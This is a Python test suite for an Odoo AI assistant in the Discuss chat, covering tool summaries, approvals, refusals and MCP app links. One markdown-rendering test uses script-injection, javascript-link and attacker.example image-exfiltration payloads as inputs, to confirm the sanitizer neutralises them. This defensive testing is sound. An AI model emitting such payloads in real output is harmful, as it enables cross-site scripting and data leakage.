"""The assistant in Discuss: the same loop, run after the user's message is committed, answered
with a message carrying a compact summary of its tool calls."""

from odoo.tests import tagged

from odoo.addons.ai_mcp.hub_process import running_hub
from odoo.addons.ai_mcp.odoo_compat import chat_with
from odoo.addons.ai_mcp.testing.mcp_apps_server import APP_URI
from odoo.addons.ai_mcp.testing.mcp_apps_server import PROGRAM as COUNTER_PROGRAM
from odoo.addons.ai_mcp.testing.mcp_servers import HttpServer
from odoo.addons.ai_mcp.testing.scripted_llm import ToolCall, Turn

from .chat_common import ChatCase


class DiscussCase(ChatCase):
    """The current user's chat with the assistant, and saying things in it."""

    def setUp(self):
        super().setUp()
        self.partner = self.assistant._discuss_partner()
        self.channel = self.assistant.with_user(self.user)._discuss_chat()

    def say(self, text, user=None, channel=None):
        """Post as the user, then run what runs once the message is committed (test cursors never
        commit, so the post-commit hooks are run by hand)."""
        channel = (channel or self.channel).with_user(user or self.user)
        channel.message_post(body=text, message_type="comment", subtype_xmlid="mail.mt_comment")
        self.env.flush_all()  # as the commit would: the turn reads on a cursor of its own
        self.env.cr.postcommit.run()
        self.env.invalidate_all()
        return self.replies(channel)

    def replies(self, channel=None):
        channel = channel or self.channel
        return self.env["mail.message"].search(
            [("model", "=", "discuss.channel"), ("res_id", "=", channel.id), ("author_id", "=", self.partner.id)],
            order="id",
        )


@tagged("post_install", "-at_install")
class TestChatDiscuss(DiscussCase):
    def test_the_assistant_has_a_partner_and_a_chat(self):
        self.assertEqual(self.partner.name, "Helper")
        self.assertEqual(self.channel.channel_type, "chat")
        self.assertEqual(
            set(self.channel.channel_member_ids.partner_id.ids), {self.partner.id, self.user.partner_id.id}
        )
        self.assertEqual(self.assistant.with_user(self.user)._discuss_chat(), self.channel, "the same chat again")
        action = self.assistant.with_user(self.user).action_open_discuss_chat()
        self.assertEqual(action["params"]["active_id"], f"discuss.channel_{self.channel.id}")
        self.assistant.name = "Helper 2"
        self.assertEqual(self.partner.name, "Helper 2")

    def test_reply_with_tool_summary(self):
        self.llm.queue(
            Turn(tool_calls=(ToolCall("add", {"a": 2, "b": 3}, id="call_add"),)),
            Turn(text="2 + 3 = 5."),
        )
        replies = self.say("What is 2 + 3?")
        self.assertEqual(len(replies), 1)
        body = str(replies.body)
        self.assertIn("2 + 3 = 5.", body)
        self.assertIn("<details>", body, "mail's sanitizer keeps details/summary")
        self.assertIn("<summary>", body)
        self.assertIn("add", body)
        self.assertIn("Test tools", body)
        self.assertEqual(replies.message_type, "comment")
        # the same conversation the widget shows, with everything stored
        conversation = self.env["ai.conversation"].search([("channel_id", "=", self.channel.id)])
        self.assertEqual(conversation.user_id, self.user)
        self.assertEqual(conversation.state, "idle")
        self.assertEqual(conversation.message_ids.filtered(lambda m: m.role == "user").content, "What is 2 + 3?")
        events = self.stored_events(conversation.id)
        self.assertEqual(events.mapped("seq"), list(range(1, len(events) + 1)))
        self.assertEqual(events[-1].type, "done")

        # the next message continues the same conversation
        self.llm.queue(Turn(text="You asked for 2 + 3."))
        replies = self.say("What did I ask?")
        self.assertIn("You asked for 2 + 3.", str(replies[-1].body))
        self.assertEqual(
            [m["role"] for m in self.llm.requests[-1]["messages"]],
            ["system", "user", "assistant", "tool", "assistant", "user"],
        )

    def test_the_answer_markdown_is_rendered_and_its_html_is_not(self):
        self.llm.queue(
            Turn(
                text=(
                    "**2 orders** are late:\n\n- `SO001`\n- SO002\n\n[Open them](https://example.com/orders)"
                    " <script>alert(1)</script> [bad](javascript:alert(1)) ![pixel](https://attacker.example/p.png?d=x)"
                )
            )
        )
        body = str(self.say("Which orders are late?").body)
        self.assertIn("<strong>2 orders</strong> are late:", body)
        self.assertIn("<li><code>SO001</code></li>", body)
        self.assertIn('href="https://example.com/orders"', body)
        self.assertNotIn("<script", body)
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", body, "shown as the text it is")
        self.assertNotIn("javascript:", body.split("[bad]")[0])
        self.assertIn("[bad](javascript:alert(1))", body)
        self.assertNotIn("<img", body, "no image is fetched by the reader's browser")
        # what the model is sent next time is its own Markdown, not the HTML
        conversation = self.env["ai.conversation"].search([("channel_id", "=", self.channel.id)])
        reply = conversation.message_ids.filtered(lambda m: m.role == "assistant")
        self.assertTrue(reply.content.startswith("**2 orders** are late:"))

    def test_approval_asked_and_answered_in_the_chat(self):
        self.llm.queue(Turn(tool_calls=(ToolCall("weather", {"city": "Paris"}, id="call_weather"),)))
        replies = self.say("Weather in Paris?")
        question = str(replies[-1].body)
        self.assertIn("weather", question)
        self.assertIn("Paris", question)
        self.assertIn("Reply yes to allow, or no to deny.", question)
        conversation = self.env["ai.conversation"].search([("channel_id", "=", self.channel.id)])
        self.assertEqual(conversation.state, "awaiting_approval")

        replies = self.say("what?")
        self.assertIn("Please reply yes", str(replies[-1].body))
        self.assertEqual(conversation.state, "awaiting_approval")

        self.llm.queue(Turn(text="It is 21.5 °C in Paris."))
        replies = self.say("Yes!")
        body = str(replies[-1].body)
        self.assertIn("It is 21.5 °C in Paris.", body)
        self.assertIn("<details>", body)
        self.assertEqual(conversation.state, "idle")
        tool = conversation.message_ids.filtered(lambda m: m.role == "tool")
        self.assertEqual(tool.status, "done")

    def test_denied_in_the_chat(self):
        self.llm.queue(Turn(tool_calls=(ToolCall("weather", {"city": "Paris"}, id="call_weather"),)))
        self.say("Weather in Paris?")
        self.llm.queue(Turn(text="I may not look it up."))
        replies = self.say("no")
        body = str(replies[-1].body)
        self.assertIn("I may not look it up.", body)
        self.assertIn("denied", body)

    def test_continue_question_in_the_chat(self):
        self.assistant.max_rounds = 2
        self.llm.queue(Turn(tool_calls=(ToolCall("add", {"a": 1, "b": 2}, id="call_1"),)))
        replies = self.say("Add things.")
        self.assertIn("Reply yes to let me go on", str(replies[-1].body))
        self.llm.queue(Turn(text="The sum is 3."))
        replies = self.say("no")
        self.assertIn("The sum is 3.", str(replies[-1].body))
        self.assertFalse(self.llm.requests[-1].get("tools"))

    def test_user_not_allowed_gets_a_polite_refusal(self):
        group = self.env["res.groups"].create({"name": "Helpers only"})
        self.assistant.group_ids = group
        channel = chat_with(self.env["discuss.channel"].with_user(self.other), [self.partner.id])
        replies = self.say("hello", user=self.other, channel=channel)
        self.assertEqual(len(replies), 1)
        self.assertIn("not allowed to chat with Helper", str(replies.body))
        self.assertFalse(self.env["ai.conversation"].search([("channel_id", "=", channel.id)]))
        self.assertFalse(self.llm.requests)

    def test_errors_are_said_in_the_chat(self):
        self.llm.queue(Turn(status=401))
        replies = self.say("hello")
        body = str(replies[-1].body)
        self.assertIn("LLM_AUTH_FAILED", body)
        self.assertIn("AI &gt; Configuration &gt; Providers", body)

    def test_other_chats_and_the_assistants_own_messages_are_left_alone(self):
        colleague = chat_with(self.env["discuss.channel"].with_user(self.user), [self.other.partner_id.id])
        colleague.with_user(self.user).message_post(body="hi", message_type="comment")
        self.env.cr.postcommit.run()
        self.assertFalse(self.llm.requests)
        self.channel.sudo().message_post(body="I speak", author_id=self.partner.id, message_type="comment")
        self.env.cr.postcommit.run()
        self.assertFalse(self.llm.requests)


@tagged("post_install", "-at_install")
class TestChatDiscussApps(DiscussCase):
    """Discuss shows no MCP App: an answer whose tools have one links to the conversation in the
    AI chat, which shows them."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.counter = HttpServer("streamable-http", program=COUNTER_PROGRAM).start()
        cls.addClassCleanup(cls.counter.stop)
        cls.counter_server = cls.env["mcp.server"].create(
            {"name": "Counter", "scope": "system", "url": cls.counter.url}
        )
        result = cls.counter_server._sync_tools()
        assert not result.get("error"), result
        cls.addClassCleanup(cls._close_counter_sessions)
        cls.assistant.mcp_server_ids = [(6, 0, cls.counter_server.ids)]

    @classmethod
    def _close_counter_sessions(cls):
        hub = running_hub()
        if hub is not None:
            hub.run(hub.aclose_server(cls.counter_server._server_key()))

    def conversation_link(self):
        conversation = self.env["ai.conversation"].search([("channel_id", "=", self.channel.id)])
        return f'href="{conversation.get_base_url()}/odoo/{conversation.id}/action-ai_mcp.action_ai_chat"'

    def test_an_answer_whose_tool_has_an_app_links_to_the_chat(self):
        self.assertEqual(self.counter_server.tool_ids.filtered(lambda t: t.name == "show_counter").app_uri, APP_URI)
        self.llm.queue(
            Turn(
                tool_calls=(
                    ToolCall("show_counter", {"start": 3}, id="call_1"),
                    ToolCall("show_counter", {"start": 4}, id="call_2"),
                )
            ),
            Turn(text="The counter is at 4."),
        )
        body = str(self.say("Show me a counter").body)
        self.assertIn("The counter is at 4.", body)
        self.assertEqual(body.count("Open Counter in the chat"), 1, "one link per tool, however often it ran")
        self.assertIn(self.conversation_link(), body)

    def test_a_call_approved_in_the_chat_links_to_its_app(self):
        self.counter_server.tool_ids.filtered(lambda t: t.name == "show_counter").requires_approval = True
        self.llm.queue(Turn(tool_calls=(ToolCall("show_counter", {"start": 3}, id="call_show"),)))
        question = str(self.say("Show me a counter").body)
        self.assertIn("Reply yes to allow, or no to deny.", question)
        self.assertNotIn("in the chat", question, "nothing to open before the call runs")
        self.llm.queue(Turn(text="The counter is at 3."))
        body = str(self.say("yes")[-1].body)
        self.assertIn("Open Counter in the chat", body)
        self.assertIn(self.conversation_link(), body)

    def test_no_link_when_the_servers_apps_are_off_or_the_tool_has_none(self):
        self.counter_server.apps_enabled = False
        self.llm.queue(Turn(tool_calls=(ToolCall("show_counter", {"start": 3}, id="call_show"),)), Turn(text="Done."))
        body = str(self.say("Show me a counter").body)
        self.assertIn("<details>", body)
        self.assertNotIn("in the chat", body)

        self.counter_server.apps_enabled = True
        reset = self.counter_server.tool_ids.filtered(lambda t: t.name == "reset_counter")
        self.assertFalse(reset.app_uri)
        reset.requires_approval = False
        self.llm.queue(Turn(tool_calls=(ToolCall("reset_counter", {}, id="call_reset"),)), Turn(text="Reset."))
        body = str(self.say("Reset it")[-1].body)
        self.assertIn("Reset the counter", body)
        self.assertNotIn("in the chat", body)
